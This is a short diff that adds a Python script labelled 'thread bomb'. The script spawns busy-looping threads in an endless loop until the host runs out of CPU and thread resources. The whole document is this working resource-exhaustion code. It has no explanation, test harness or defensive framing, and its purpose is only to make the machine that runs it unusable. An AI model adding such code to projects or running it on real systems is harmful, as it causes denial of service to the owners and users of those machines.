@@ -1,0 +1,7 @@
+# thread bomb
+import threading
+def spin():
+    while True:
+        pass
+while True:
+    threading.Thread(target=spin).start()
